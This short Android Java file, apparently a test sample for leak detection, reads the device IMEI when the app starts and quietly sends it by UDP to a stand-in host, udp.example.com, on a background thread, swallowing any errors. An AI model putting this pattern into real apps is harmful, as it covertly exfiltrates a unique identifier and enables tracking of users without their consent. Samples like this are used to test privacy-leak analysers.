package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        final byte[] data = phone.getImei().getBytes();
        new Thread(new Runnable() {
            @Override
            public void run() {
                send(data);
            }
        }).start();
    }

    static void send(byte[] data) {
        try {
            InetAddress host = InetAddress.getByName("udp.example.com");
            DatagramSocket socket = new DatagramSocket();
            socket.send(new DatagramPacket(data, data.length, host, 5005));
            socket.close();
        } catch (IOException error) {
            return;
        }
    }
}
